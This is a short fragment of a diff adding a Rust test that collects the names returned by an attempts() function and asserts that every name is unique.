+    let all = attempts();
+    let mut names: Vec<&str> = all.iter().map(|a| a.name).collect();
+    names.sort_unstable();
+    let before = names.len();
+    names.dedup();
+    assert_eq!(names.len(), before, "two attempts share a name");
+}
